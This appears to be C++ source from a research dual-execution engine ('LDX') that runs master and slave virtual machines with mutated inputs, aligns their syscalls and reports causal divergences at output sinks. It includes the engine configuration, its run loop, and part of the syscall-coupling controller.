    // not reproduce run to run. Group by tid (stable within a tid,
    // where order is guest-deterministic) so the findings list — and
    // everything derived from it, like divergence.outcome — is
    // identical across drivers and repeated runs.
    std::stable_sort(res.findings.begin(), res.findings.end(),
                     [](const Finding &a, const Finding &b) {
                         return a.tid < b.tid;
                     });

    if (recorder) {
        registry.counter("recorder.events.master")
            .inc(recorder->total(0));
        registry.counter("recorder.events.slave")
            .inc(recorder->total(1));
        registry.counter("recorder.dropped")
            .inc(recorder->dropped(0) + recorder->dropped(1));
        const bool non_clean =
            !res.findings.empty() || res.deadlocked ||
            res.masterTrapped || res.slaveTrapped ||
            chan.decouples->value() || chan.watchdogExpired->value() ||
            chan.sinkDiffs->value() || chan.sinkVanished->value();
        if (non_clean) {
            obs::DivergenceInput in;
            in.recorder = &*recorder;
            in.sysName = [](std::int64_t no) {
                return os::sysName(no);
            };
            if (!res.findings.empty())
                in.outcome = causeKindName(res.findings.front().kind);
            else if (res.deadlocked)
                in.outcome = "deadlock";
            else if (chan.watchdogExpired->value())
                in.outcome = "watchdog-expiry";
            else
                in.outcome = "decouple";
            in.mutatedKeys = mutated.taintKeys;
            in.taintedKeys.assign(res.taintedResources.begin(),
                                  res.taintedResources.end());
            // Both VMs have finished and the driver threads are
            // joined, so the channels are quiescent: read them
            // without their mutexes (locking here would perturb the
            // chan.mutex_acquisitions tally).
            chan.forEachChannel([&in](int tid, ThreadChannel &ch) {
                obs::ChannelSnapshot snap;
                snap.tid = tid;
                for (int side = 0; side < 2; ++side) {
                    snap.cnt[side] = ch.pos[side].cnt;
                    snap.site[side] = ch.pos[side].site;
                    snap.posKind[side] =
                        static_cast<std::uint8_t>(ch.pos[side].kind);
                    snap.cntStack[side] = ch.cntStack[side];
                    snap.threadDone[side] = ch.threadDone[side];
                }
                snap.queueDepth = ch.queue.size();
                in.channels.push_back(std::move(snap));
            });
            res.divergence = obs::buildDivergenceReport(in);
        }
    }
    timer.end(); // verdict

    publishSideStats(registry, "master", res.masterStats,
                     master_kernel.stats());
    publishSideStats(registry, "slave", res.slaveStats,
                     slave_kernel.stats());
    registry.counter("driver.steps.master")
        .inc(chan.progress[0].load(std::memory_order_relaxed));
    registry.counter("driver.steps.slave")
        .inc(chan.progress[1].load(std::memory_order_relaxed));
    registry.counter("chan.mutex_acquisitions")
        .inc(chan.totalMutexAcquisitions());
    registry.counter("dual.findings").inc(res.findings.size());
    registry.gauge("dual.wall_seconds").set(res.wallSeconds);

    res.metrics = registry.snapshot();
    res.phases = timer.samples();
    return res;
}

} // namespace ldx::core
