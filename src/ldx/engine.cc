#include "ldx/engine.h"

#include "instrument/instrument.h"
#include "ldx/snapshot.h"
#include "support/diag.h"
#include "support/strings.h"

namespace ldx::core {

bool
SinkConfig::matchesChannel(const std::string &channel) const
{
    if (startsWith(channel, "net:"))
        return net;
    if (startsWith(channel, "file:"))
        return file;
    if (channel == "console")
        return console;
    return true;
}

DualEngine::DualEngine(const ir::Module &module, os::WorldSpec world,
                       EngineConfig cfg)
    : module_(module), world_(std::move(world)), cfg_(std::move(cfg))
{
    if (!instrument::isInstrumented(module_))
        fatal("DualEngine requires a counter-instrumented module");
}

DualResult
DualEngine::run()
{
    // One dual execution, start to finish. The resume loop only spins
    // when a pausing snapshot trigger is attached (a paused run is
    // simply continued — capture is the campaign executor's job, via
    // DualRun directly); with no trigger or a probe-only trigger,
    // drive() runs to completion on the first call.
    DualRun run(module_, world_, cfg_);
    while (!run.finished())
        if (run.drive())
            run.resume();
    return run.finish();
}

} // namespace ldx::core
