#include "ldx/engine.h"

#include <chrono>
#include <thread>

#include "instrument/instrument.h"
#include "support/diag.h"
#include "support/strings.h"

namespace ldx::core {

namespace {

/** Records VM-level sink events (vulnerable program set). */
class SinkRecorder : public vm::SinkHook
{
  public:
    static constexpr std::size_t kCap = 65536;

    SinkRecorder(bool record_rets, bool record_allocs)
        : recordRets_(record_rets), recordAllocs_(record_allocs)
    {}

    void
    onRetToken(int tid, std::uint64_t, std::int64_t token,
               std::int64_t expected, vm::Machine &) override
    {
        // Only corruptions are interesting: a healthy return matches.
        if (recordRets_ && token != expected &&
            corruptions.size() < kCap)
            corruptions.push_back({tid, token});
    }

    void
    onAllocSize(int tid, std::int64_t size, vm::Machine &) override
    {
        if (recordAllocs_ && allocs.size() < kCap)
            allocs.push_back({tid, size});
    }

    std::vector<std::pair<int, std::int64_t>> corruptions;
    std::vector<std::pair<int, std::int64_t>> allocs;

  private:
    bool recordRets_;
    bool recordAllocs_;
};

double
secondsSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

} // namespace

bool
SinkConfig::matchesChannel(const std::string &channel) const
{
    if (startsWith(channel, "net:"))
        return net;
    if (startsWith(channel, "file:"))
        return file;
    if (channel == "console")
        return console;
    return true;
}

DualEngine::DualEngine(const ir::Module &module, os::WorldSpec world,
                       EngineConfig cfg)
    : module_(module), world_(std::move(world)), cfg_(std::move(cfg))
{
    if (!instrument::isInstrumented(module_))
        fatal("DualEngine requires a counter-instrumented module");
}

DualResult
DualEngine::run()
{
    Prng mutation_prng(cfg_.mutationSeed);
    MutatedWorld mutated = mutateWorld(world_, cfg_.sources,
                                       cfg_.strategy, mutation_prng);
    os::WorldSpec slave_world =
        mutated.world.withNondetVariant(cfg_.nondetSalt);

    SyncChannel chan;
    chan.traceEnabled = cfg_.recordTrace;
    for (const std::string &key : mutated.taintKeys)
        chan.taints.taint(key);

    os::Kernel master_kernel(world_);
    os::Kernel slave_kernel(slave_world);
    slave_kernel.setSuppressOutputs(true);

    vm::MachineConfig master_cfg = cfg_.vmConfig;
    vm::MachineConfig slave_cfg = cfg_.vmConfig;
    slave_cfg.schedSeed += cfg_.slaveSchedSeedDelta;
    if (cfg_.slaveSchedSeedDelta)
        slave_cfg.schedJitter = true;

    vm::Machine master(module_, master_kernel, master_cfg);
    vm::Machine slave(module_, slave_kernel, slave_cfg);

    auto sink_pred = [this](const std::string &channel) {
        return cfg_.sinks.matchesChannel(channel);
    };
    ControllerOptions mo;
    mo.side = Side::Master;
    mo.isSinkChannel = sink_pred;
    mo.shareLockOrder = cfg_.shareLockOrder;
    mo.lockPollTimeout = cfg_.lockPollTimeout;
    mo.stallTimeout = cfg_.stallTimeout;
    ControllerOptions so = mo;
    so.side = Side::Slave;
    Controller master_ctl(chan, mo);
    Controller slave_ctl(chan, so);
    master.setSyscallPort(&master_ctl);
    slave.setSyscallPort(&slave_ctl);

    SinkRecorder master_rec(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    SinkRecorder slave_rec(cfg_.sinks.retTokens, cfg_.sinks.allocSizes);
    if (cfg_.sinks.retTokens || cfg_.sinks.allocSizes) {
        master.setSinkHook(&master_rec);
        slave.setSinkHook(&slave_rec);
    }

    auto t0 = std::chrono::steady_clock::now();
    bool deadlocked = false;

    master.start();
    slave.start();

    if (cfg_.threaded) {
        auto loop = [&chan](vm::Machine &m, int side) {
            while (!m.finished()) {
                vm::StepStatus st = m.step();
                if (st == vm::StepStatus::Progress) {
                    chan.progress[side].fetch_add(
                        1, std::memory_order_relaxed);
                } else if (st == vm::StepStatus::Stalled) {
                    std::this_thread::yield();
                } else {
                    break;
                }
            }
        };
        std::thread mt(loop, std::ref(master), 0);
        std::thread st(loop, std::ref(slave), 1);
        while (!(master.finished() && slave.finished())) {
            std::this_thread::sleep_for(std::chrono::milliseconds(5));
            if (secondsSince(t0) > cfg_.wallClockCap) {
                deadlocked = true;
                chan.abort.store(true, std::memory_order_release);
            }
        }
        mt.join();
        st.join();
    } else {
        constexpr int kQuantum = 64;
        std::uint64_t idle_rounds = 0;
        while (!(master.finished() && slave.finished())) {
            bool progressed = false;
            for (int side = 0; side < 2; ++side) {
                vm::Machine &m = side == 0 ? master : slave;
                for (int i = 0; i < kQuantum && !m.finished(); ++i) {
                    vm::StepStatus st = m.step();
                    if (st != vm::StepStatus::Progress)
                        break;
                    progressed = true;
                    chan.progress[side].fetch_add(
                        1, std::memory_order_relaxed);
                }
            }
            if (progressed) {
                idle_rounds = 0;
            } else if (++idle_rounds % 8192 == 0 &&
                       secondsSince(t0) > cfg_.wallClockCap) {
                deadlocked = true;
                chan.abort.store(true, std::memory_order_release);
            }
        }
    }

    DualResult res;
    res.wallSeconds = secondsSince(t0);
    res.deadlocked = deadlocked;
    res.findings = chan.takeFindings();
    if (cfg_.recordTrace)
        res.trace = chan.takeTrace();
    res.alignedSyscalls =
        chan.alignedSyscalls.load(std::memory_order_relaxed);
    res.syscallDiffs =
        chan.syscallDiffs.load(std::memory_order_relaxed);
    res.totalSlaveSyscalls =
        chan.slaveSyscalls.load(std::memory_order_relaxed);
    res.barrierPairings =
        chan.barrierPairings.load(std::memory_order_relaxed);
    res.masterExit = master.exitCode();
    res.slaveExit = slave.exitCode();
    res.masterTrapped = master.trap().has_value();
    res.slaveTrapped = slave.trap().has_value();
    if (master.trap())
        res.masterTrapMessage = master.trap()->message;
    if (slave.trap())
        res.slaveTrapMessage = slave.trap()->message;
    res.masterStats = master.stats();
    res.slaveStats = slave.stats();
    res.taintedResources = chan.taints.snapshot();

    // Return-token sinks: any difference in the corruption event
    // streams is causality between the mutated input and control
    // state.
    if (cfg_.sinks.retTokens &&
        master_rec.corruptions != slave_rec.corruptions) {
        Finding f;
        f.kind = CauseKind::RetTokenDiff;
        f.observer = Side::Master;
        f.masterValue =
            std::to_string(master_rec.corruptions.size()) +
            " corruption(s)";
        f.slaveValue = std::to_string(slave_rec.corruptions.size()) +
                       " corruption(s)";
        res.findings.push_back(std::move(f));
    }

    // Allocation-size sinks: pairwise comparison of malloc arguments.
    if (cfg_.sinks.allocSizes) {
        std::size_t n = std::min(master_rec.allocs.size(),
                                 slave_rec.allocs.size());
        int reported = 0;
        for (std::size_t i = 0; i < n && reported < 32; ++i) {
            if (master_rec.allocs[i] != slave_rec.allocs[i]) {
                Finding f;
                f.kind = CauseKind::AllocSizeDiff;
                f.observer = Side::Master;
                f.masterValue =
                    std::to_string(master_rec.allocs[i].second);
                f.slaveValue =
                    std::to_string(slave_rec.allocs[i].second);
                res.findings.push_back(std::move(f));
                ++reported;
            }
        }
        if (master_rec.allocs.size() != slave_rec.allocs.size()) {
            Finding f;
            f.kind = CauseKind::AllocSizeDiff;
            f.observer = Side::Master;
            f.masterValue =
                std::to_string(master_rec.allocs.size()) + " allocs";
            f.slaveValue =
                std::to_string(slave_rec.allocs.size()) + " allocs";
            res.findings.push_back(std::move(f));
        }
    }

    // Termination divergence (e.g., the slave crashed under mutation).
    bool master_hijack = res.masterTrapped;
    bool slave_hijack = res.slaveTrapped;
    if (master_hijack != slave_hijack ||
        (master_hijack && res.masterTrapMessage != res.slaveTrapMessage)) {
        Finding f;
        f.kind = CauseKind::TerminationDiff;
        f.observer = Side::Master;
        f.masterValue = res.masterTrapped ? res.masterTrapMessage : "ok";
        f.slaveValue = res.slaveTrapped ? res.slaveTrapMessage : "ok";
        res.findings.push_back(std::move(f));
    }

    return res;
}

} // namespace ldx::core
