/**
 * @file
 * The LDX dual-execution engine.
 *
 * Given an instrumented module and a world, the engine derives the
 * slave's world (sources mutated per the configuration, nondeterminism
 * seeds changed), pre-taints the mutated resources, couples a master
 * and a slave VM through the counter-based protocol, runs them with
 * either the deterministic lockstep driver or two OS threads, and
 * returns the causality verdict.
 */
#pragma once

#include <cstdint>
#include <vector>

#include "ir/ir.h"
#include "ldx/controller.h"
#include "ldx/mutation.h"
#include "ldx/report.h"
#include "obs/recorder.h"
#include "obs/registry.h"
#include "obs/trace.h"
#include "os/world.h"
#include "vm/machine.h"

namespace ldx::core {

/** Which output channels count as sinks (§8 "Benchmark Programs"). */
struct SinkConfig
{
    bool net = true;      ///< outgoing network syscalls
    bool file = true;     ///< local file writes
    bool console = true;  ///< console prints
    bool retTokens = false;   ///< corrupted return tokens (attacks)
    bool allocSizes = false;  ///< malloc size arguments (attacks)

    /** Channel predicate used by the controllers. */
    bool matchesChannel(const std::string &channel) const;
};

/**
 * Threaded-driver stall backoff (pause -> yield -> sleep). A stalled
 * side first spins with a cpu-relax hint (the peer usually publishes
 * within a few hundred cycles), then yields its timeslice, then
 * sleeps in short bursts, so an idle waiter neither burns a core nor
 * steals cycles from a busy peer. Time spent in the sleep stage is
 * accounted in the driver.backoff_ns counter; yields (stage two and
 * three) keep feeding driver.yields.
 */
struct DriverConfig
{
    /** Stalled poll rounds spent in cpu-relax spins. */
    std::uint32_t spinCount = 64;
    /** Further stalled rounds spent yielding before sleeping. */
    std::uint32_t yieldCount = 64;
    /** Sleep length per stalled round once spin/yield are exhausted. */
    std::uint32_t sleepMicros = 50;
};

/** Engine configuration. */
struct EngineConfig
{
    SinkConfig sinks;

    /** Threaded-driver stall backoff (--spin-policy on the CLI). */
    DriverConfig driver;

    /** Sources mutated in the slave. */
    std::vector<SourceSpec> sources;
    MutationStrategy strategy = MutationStrategy::OffByOne;
    std::uint64_t mutationSeed = 7;

    /** Run master and slave on two OS threads (Fig. 6 setting). */
    bool threaded = false;

    /** Share lock acquisition order master -> slave (§7). */
    bool shareLockOrder = true;

    /** VM configuration common to both sides. */
    vm::MachineConfig vmConfig;

    /** Extra scheduler seed for the slave (0 = same schedule). */
    std::uint64_t slaveSchedSeedDelta = 0;

    /** Salt for the slave's nondeterminism seeds. */
    std::uint64_t nondetSalt = 1;

    /**
     * Watchdog budgets (polls with no peer progress). A waiter only
     * gives up when the peer retires nothing for this many polls —
     * i.e. the pair is in a genuinely unresolvable mutual wait, where
     * decoupling is the correct outcome anyway.
     */
    std::uint64_t stallTimeout = 100'000;
    std::uint64_t lockPollTimeout = 50'000;

    /** Hard wall-clock cap (seconds) before declaring a deadlock. */
    double wallClockCap = 120.0;

    /** Record a Fig. 3-style alignment trace into DualResult::trace. */
    bool recordTrace = false;

    /**
     * Keep a flight recorder (per-side slow-path event rings) and, on
     * any non-clean outcome, attach a DivergenceReport to the result.
     * Default on: events are only recorded at operations that already
     * pay for a mutex or an atomic, so the cost is negligible
     * (bench/interp_throughput measures the on-vs-off delta).
     */
    bool flightRecorder = true;

    /** Per-side flight-recorder ring capacity (events kept). */
    std::size_t recorderCapacity = obs::FlightRecorder::kDefaultCapacity;

    /**
     * stepMany batch size for the lockstep driver; 0 means unbounded
     * (each side runs until its first blocked poll). The protocol
     * outcome must be independent of this value — it only trades
     * dispatch overhead against alternation granularity. Exposed so
     * tests can pin batch-boundary behaviour.
     */
    std::uint64_t lockstepQuantum = 64;

    /**
     * Metrics registry to accumulate into. When null the engine uses
     * a private registry whose totals are still returned in
     * DualResult::metrics; pass one to accumulate across runs (the
     * bench harnesses) or to read counters while a run is live.
     */
    obs::Registry *registry = nullptr;

    /**
     * Structured trace sink (JSONL / Chrome trace_event). Alignment
     * actions, VM thread lifecycle, kernel outputs, and phase timing
     * are emitted with per-side lanes. Null disables emission.
     */
    obs::TraceSink *traceSink = nullptr;

    /**
     * Guest-level site profiles (`ldx profile`): when set, each VM
     * attributes per-site cost into its SiteCounters and each
     * controller folds gate stalls into the same struct's
     * gateStalls. Shapes are established by the machines; pass
     * default-constructed instances. Requires vmConfig.predecode.
     */
    obs::SiteCounters *masterSites = nullptr;
    obs::SiteCounters *slaveSites = nullptr;

    /**
     * Snapshot trigger/probe handed to both controllers (see
     * SnapshotTrigger). The campaign's snapshot executor passes a
     * pausing trigger to capture a fork point at the mutated source's
     * first touch; its snapshot-off path passes a probe-only trigger
     * to measure the same prefix without perturbing the run. Null for
     * ordinary runs.
     */
    SnapshotTrigger *trigger = nullptr;
};

/** Dual-execution engine. */
class DualEngine
{
  public:
    /**
     * @param module  counter-instrumented module (fatal otherwise)
     * @param world   the master's environment
     */
    DualEngine(const ir::Module &module, os::WorldSpec world,
               EngineConfig cfg);

    /** Execute master and slave to completion. */
    DualResult run();

  private:
    const ir::Module &module_;
    os::WorldSpec world_;
    EngineConfig cfg_;
};

} // namespace ldx::core
