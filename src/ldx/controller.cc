#include "ldx/controller.h"

#include <cstdio>
#include <cstdlib>

#include <algorithm>

#include "os/sysno.h"
#include "support/diag.h"
#include "vm/machine.h"

namespace ldx::core {

namespace {
bool
traceEnabled()
{
    static bool on = std::getenv("LDX_TRACE") != nullptr;
    return on;
}
} // namespace

#define LDX_TRACE_EVT(...)                                              \
    do {                                                                \
        if (traceEnabled())                                             \
            std::fprintf(stderr, __VA_ARGS__);                          \
    } while (0)


Progress
compareProgress(const std::vector<std::int64_t> &peer_stack,
                std::int64_t peer_cnt,
                const std::vector<std::int64_t> &my_stack,
                std::int64_t my_cnt)
{
    std::size_t an = my_stack.size() + 1;
    std::size_t bn = peer_stack.size() + 1;
    auto a = [&](std::size_t i) {
        return i < my_stack.size() ? my_stack[i] : my_cnt;
    };
    auto b = [&](std::size_t i) {
        return i < peer_stack.size() ? peer_stack[i] : peer_cnt;
    };
    std::size_t n = std::min(an, bn);
    for (std::size_t i = 0; i < n; ++i) {
        if (b(i) != a(i))
            return b(i) > a(i) ? Progress::Passed : Progress::Behind;
    }
    if (an == bn)
        return Progress::Same;
    return Progress::Unknown;
}

Controller::Controller(SyncChannel &chan, ControllerOptions opts)
    : chan_(chan), opts_(std::move(opts)),
      rec_(chan.scope().recorder())
{
    if (!opts_.isSinkChannel)
        opts_.isSinkChannel = [](const std::string &) { return true; };
}

void
Controller::recordEvt(obs::RecKind kind, int tid, std::int64_t cnt,
                      int site, std::int64_t sysNo, std::uint64_t arg)
{
    if (!rec_)
        return;
    obs::RecEvent e;
    e.kind = kind;
    e.tid = static_cast<std::uint16_t>(tid);
    e.cnt = cnt;
    e.site = site;
    e.sysNo = sysNo;
    e.arg = arg;
    rec_->record(self(), e);
}

void
Controller::recordBlock(WaitState &w, int tid, std::int64_t sysNo)
{
    if (w.blockRecorded)
        return;
    w.blockRecorded = true;
    w.gateSysNo = sysNo;
    recordEvt(obs::RecKind::Block, tid, w.gateCnt, w.gateSite, sysNo,
              static_cast<std::uint64_t>(w.gate));
}

void
Controller::bumpProgress()
{
    // The drivers bump per-instruction progress; controller completions
    // count as progress too so pure syscall sequences keep watchdogs
    // fed.
    chan_.progress[self()].fetch_add(1, std::memory_order_relaxed);
}

bool
Controller::waitExpired(int tid, std::uint64_t budget)
{
    WaitState &w = waits_[tid];
    // Sticky: the budget cannot re-arm between the fast-path expiry
    // and the locked re-evaluation that acts on it.
    if (w.expired)
        return true;
    chan_.watchdogPolls->inc();
    if (chan_.abort.load(std::memory_order_acquire))
        return true;
    std::uint64_t p =
        chan_.progress[peer()].load(std::memory_order_relaxed);
    if (p != w.peerProgressSnapshot) {
        w.peerProgressSnapshot = p;
        w.polls = 0;
        return false;
    }
    if (++w.polls > budget) {
        w.expired = true;
        chan_.watchdogExpired->inc();
        recordEvt(obs::RecKind::WatchdogExpire, tid, w.gateCnt,
                  w.gateSite, w.gateSysNo, w.polls);
        return true;
    }
    return false;
}

void
Controller::clearWait(int tid)
{
    auto it = waits_.find(tid);
    if (it == waits_.end())
        return;
    WaitState &w = it->second;
    chan_.waitPolls->observe(static_cast<double>(w.polls));
    // The Unblock closing a recorded Block; a watchdog-expired wait
    // already ended with a WatchdogExpire event instead.
    if (w.blockRecorded && !w.expired)
        recordEvt(obs::RecKind::Unblock, tid, w.gateCnt, w.gateSite,
                  w.gateSysNo, w.polls);
    if (opts_.stalls && w.blockRecorded) {
        obs::SiteStall &s = (*opts_.stalls)[w.gateSite];
        ++s.episodes;
        s.polls += w.polls;
        if (w.expired)
            ++s.expirations;
    }
    waits_.erase(it);
}

ThreadChannel &
Controller::channel(int tid)
{
    auto it = channelCache_.find(tid);
    if (it != channelCache_.end())
        return *it->second;
    ThreadChannel &ch = chan_.thread(tid);
    channelCache_[tid] = &ch;
    return ch;
}

void
Controller::invalidateGate(int tid)
{
    auto it = waits_.find(tid);
    if (it != waits_.end())
        it->second.gate = WaitState::Gate::None;
}

bool
Controller::fastPollBlocked(PollSite where, int tid, std::int64_t cnt,
                            int site, std::int64_t iter)
{
    auto it = waits_.find(tid);
    if (it == waits_.end())
        return false;
    WaitState &w = it->second;
    if (w.gate == WaitState::Gate::None || w.gateCnt != cnt ||
        w.gateSite != site || w.gateIter != iter || w.expired)
        return false;
    switch (where) {
      case PollSite::Syscall:
        if (w.gate != WaitState::Gate::Input &&
            w.gate != WaitState::Gate::SinkWait &&
            w.gate != WaitState::Gate::SinkBehind)
            return false;
        break;
      case PollSite::Barrier:
        if (w.gate != WaitState::Gate::Barrier)
            return false;
        break;
      case PollSite::Lock:
        if (w.gate != WaitState::Gate::Lock)
            return false;
        break;
    }

    // Anything the gate's versions cannot prove unchanged forces the
    // locked evaluation: engine abort, a finished peer side, a
    // structural channel mutation, or a new taint.
    if (chan_.abort.load(std::memory_order_acquire) ||
        chan_.sideFinished(peerOf(opts_.side)))
        return false;
    ThreadChannel &ch = channel(tid);
    if (ch.stateVersion.load(std::memory_order_acquire) != w.gateState ||
        chan_.taints.version() != w.gateTaint)
        return false;

    if (w.gate == WaitState::Gate::Lock) {
        if (chan_.lockVersion.load(std::memory_order_acquire) !=
            w.gateLockVer)
            return false;
        // Same poll budget as the locked path; on overflow the locked
        // path performs the taint-and-decouple.
        std::uint64_t &polls = lockPolls_[{tid, w.gateLockId}];
        if (++polls > opts_.lockPollTimeout)
            return false;
        chan_.blockedPolls->inc();
        return true;
    }

    // Only the peer's position can have moved. Re-evaluate the wait
    // predicate against the seqlock snapshot; take the mutex only if
    // the wait might actually resolve.
    std::uint64_t seq = ch.posCell[peer()].seq();
    if (seq != w.gatePeerSeq) {
        bool truncated = false;
        seq = ch.posCell[peer()].read(peerPosScratch_,
                                      peerStackScratch_, truncated);
        if (truncated)
            return false;
        const Position &ppos = peerPosScratch_;
        switch (w.gate) {
          case WaitState::Gate::Input:
          case WaitState::Gate::SinkWait: {
            Progress pr = compareProgress(peerStackScratch_, ppos.cnt,
                                          w.gateMyStack, cnt);
            bool passed =
                pr == Progress::Passed ||
                (pr == Progress::Same &&
                 (ppos.site != site || ppos.kind == PosKind::Barrier));
            if (passed)
                return false;
            break;
          }
          case WaitState::Gate::SinkBehind: {
            Progress pr =
                compareProgress(peerStackScratch_, w.gateTheirsCnt,
                                w.gateMyStack, cnt);
            if (pr == Progress::Same || pr == Progress::Passed)
                return false;
            break;
          }
          case WaitState::Gate::Barrier: {
            Progress pr = compareProgress(peerStackScratch_, ppos.cnt,
                                          w.gateMyStack, cnt);
            if (pr == Progress::Passed)
                return false;
            if (ppos.kind == PosKind::Barrier && ppos.site == site &&
                ppos.iter >= iter)
                return false;
            if (ppos.kind == PosKind::Barrier &&
                pr == Progress::Same && ppos.site != site)
                return false;
            break;
          }
          default:
            return false;
        }
        w.gatePeerSeq = seq;
    }

    // Still blocked: run the same watchdog the locked path would.
    // SinkBehind waits carry no watchdog (the peer's parked sink can
    // only resolve through peer movement), matching the locked path.
    if (w.gate != WaitState::Gate::SinkBehind &&
        waitExpired(tid, opts_.stallTimeout))
        return false;
    chan_.blockedPolls->inc();
    return true;
}


void
Controller::trace(TraceEvent::Kind kind, const vm::SyscallRequest &req)
{
    if (!chan_.wantsEvents())
        return;
    TraceEvent evt;
    evt.kind = kind;
    evt.side = opts_.side;
    evt.tid = req.tid;
    evt.sysNo = req.sysNo;
    evt.cnt = req.cnt;
    evt.site = req.site;
    chan_.recordEvent(evt);
}

std::uint64_t
Controller::argSignature(const vm::SyscallRequest &req,
                         vm::Machine &vm) const
{
    const os::SysDesc &d = os::sysDesc(req.sysNo);
    std::uint64_t h = 0xcbf29ce484222325ULL;
    auto mix = [&h](std::uint64_t v) {
        for (int i = 0; i < 8; ++i) {
            h ^= (v >> (8 * i)) & 0xff;
            h *= 0x100000001b3ULL;
        }
    };
    auto mix_bytes = [&h](const std::string &s) {
        for (char c : s) {
            h ^= static_cast<unsigned char>(c);
            h *= 0x100000001b3ULL;
        }
    };
    mix(static_cast<std::uint64_t>(req.sysNo));
    for (std::size_t i = 0; i < req.args.size(); ++i) {
        int idx = static_cast<int>(i);
        if (idx == d.outBufArg)
            continue; // buffer addresses may differ benignly
        try {
            if (idx == d.pathArg || idx == d.pathArg2) {
                mix_bytes(vm.memory().readCString(
                    static_cast<std::uint64_t>(req.args[i])));
                continue;
            }
            if (idx == d.inBufArg) {
                std::int64_t len = d.lenArg >= 0 &&
                        d.lenArg < static_cast<int>(req.args.size())
                    ? std::max<std::int64_t>(
                          0, req.args[static_cast<std::size_t>(d.lenArg)])
                    : 0;
                mix_bytes(vm.memory().readBytes(
                    static_cast<std::uint64_t>(req.args[i]),
                    static_cast<std::uint64_t>(len)));
                continue;
            }
        } catch (const vm::VmTrap &) {
            mix(0xfa17);
            continue;
        }
        mix(static_cast<std::uint64_t>(req.args[i]));
    }
    return h;
}

bool
Controller::isSink(const vm::SyscallRequest &req, vm::Machine &vm,
                   std::string *payload_out,
                   std::string *channel_out) const
{
    if (os::sysDesc(req.sysNo).klass != os::SysClass::Output)
        return false;
    std::string payload;
    try {
        payload = vm.kernel().sinkPayload(req.sysNo, req.args,
                                          vm.memory());
    } catch (const vm::VmTrap &) {
        payload = "fault|";
    }
    std::string channel = payload.substr(0, payload.find('|'));
    if (payload_out)
        *payload_out = payload;
    if (channel_out)
        *channel_out = channel;
    return opts_.isSinkChannel(channel);
}

vm::PortReply
Controller::onSyscall(const vm::SyscallRequest &req, vm::Machine &vm,
                      os::Outcome &out)
{
    const os::SysDesc &desc = os::sysDesc(req.sysNo);
    switch (desc.klass) {
      case os::SysClass::Local: {
        ThreadChannel &ch = channel(req.tid);
        std::lock_guard<CountingMutex> lock(ch.mutex);
        ch.publishPos(self(), {PosKind::Local, req.cnt, req.site, 0});
        bumpProgress();
        return vm::PortReply::Done;
      }
      case os::SysClass::Sync:
        return handleLock(req, vm);
      case os::SysClass::Output:
      case os::SysClass::Input: {
        // Snapshot trigger: fires before the fast-poll gate and
        // before any world or coupling state is touched, so a paused
        // machine holds the exact pre-touch prefix state. Each side
        // fires once; after the resume the sticky hit flag lets the
        // re-issued syscall fall through to the normal path.
        if (opts_.trigger && !opts_.trigger->fired(self())) {
            std::string key;
            try {
                key = vm.kernel().resourceKey(req.sysNo, req.args,
                                              vm.memory());
            } catch (const vm::VmTrap &) {
                key.clear();
            }
            if (!key.empty() && key == opts_.trigger->key) {
                opts_.trigger->prefixInstrs[self()].store(
                    vm.stats().instructions,
                    std::memory_order_relaxed);
                opts_.trigger->hit[self()].store(
                    true, std::memory_order_release);
                if (opts_.trigger->pauseOnHit) {
                    vm.requestPause();
                    return vm::PortReply::Blocked;
                }
            }
        }
        // Re-poll of a recorded shared/sink wait: answer from the
        // lock-free gate (this also skips the per-poll payload /
        // argument-signature recomputation the locked path redoes).
        if (fastPollBlocked(PollSite::Syscall, req.tid, req.cnt,
                            req.site, 0))
            return vm::PortReply::Blocked;
        if (desc.klass == os::SysClass::Output) {
            std::string payload;
            if (isSink(req, vm, &payload, nullptr))
                return handleSink(req, vm, out, payload);
        }
        if (opts_.side == Side::Master)
            return handleMasterShared(req, vm, out);
        return handleSlaveShared(req, vm, out);
      }
    }
    panic("unhandled syscall class");
}

vm::PortReply
Controller::handleMasterShared(const vm::SyscallRequest &req,
                               vm::Machine &vm, os::Outcome &out)
{
    std::string key;
    if (chan_.taints.size() != 0) {
        try {
            key = vm.kernel().resourceKey(req.sysNo, req.args,
                                          vm.memory());
        } catch (const vm::VmTrap &) {
            key.clear();
        }
    }
    bool tainted = !key.empty() && chan_.taints.isTainted(key);

    out = vm.kernel().execute(req.sysNo, req.args, vm.memory());

    // Computed outside the lock; needed for the queue entry and as
    // the recorded event's hashed-argument digest.
    std::uint64_t sig = argSignature(req, vm);

    invalidateGate(req.tid);
    ThreadChannel &ch = channel(req.tid);
    {
        std::lock_guard<CountingMutex> lock(ch.mutex);
        ch.publishPos(self(), {PosKind::Input, req.cnt, req.site, 0});
        if (!tainted && !chan_.sideFinished(Side::Slave)) {
            if (ch.queue.size() >= SyncChannel::kQueueCap)
                ch.queue.pop_front();
            QueueEntry entry;
            entry.cnt = req.cnt;
            entry.site = req.site;
            entry.sysNo = req.sysNo;
            entry.argSig = sig;
            entry.out = out;
            ch.queue.push_back(std::move(entry));
            ch.bumpVersion();
        }
    }
    LDX_TRACE_EVT("[%c] input sys=%lld cnt=%lld site=%d -> exec+enqueue\n",
                  opts_.side == Side::Master ? 'M' : 'S',
                  (long long)req.sysNo, (long long)req.cnt, req.site);
    chan_.executes->inc();
    trace(TraceEvent::Kind::Execute, req);
    recordEvt(obs::RecKind::SyscallExecute, req.tid, req.cnt, req.site,
              req.sysNo, sig);
    bumpProgress();
    return vm::PortReply::Done;
}

vm::PortReply
Controller::handleSlaveShared(const vm::SyscallRequest &req,
                              vm::Machine &vm, os::Outcome &out)
{
    auto resource_key = [&]() -> std::string {
        try {
            return vm.kernel().resourceKey(req.sysNo, req.args,
                                           vm.memory());
        } catch (const vm::VmTrap &) {
            return "";
        }
    };
    // Sampled before the membership check: a taint that lands after
    // this point bumps the version past the gate's snapshot, so the
    // next poll re-runs the locked evaluation with fresh taint state.
    std::uint64_t taint_ver = chan_.taints.version();
    std::string key;
    if (chan_.taints.size() != 0)
        key = resource_key();
    bool tainted = !key.empty() && chan_.taints.isTainted(key);

    invalidateGate(req.tid);
    ThreadChannel &ch = channel(req.tid);
    std::uint64_t sig = argSignature(req, vm);
    // Any misaligned operation taints its resource (§7), so later
    // syscalls on it never couple diverged state.
    auto decouple = [&]() -> vm::PortReply {
        if (key.empty())
            key = resource_key();
        if (!key.empty())
            chan_.taints.taint(key);
        out = vm.kernel().execute(req.sysNo, req.args, vm.memory());
        chan_.syscallDiffs->inc();
        chan_.slaveSyscalls->inc();
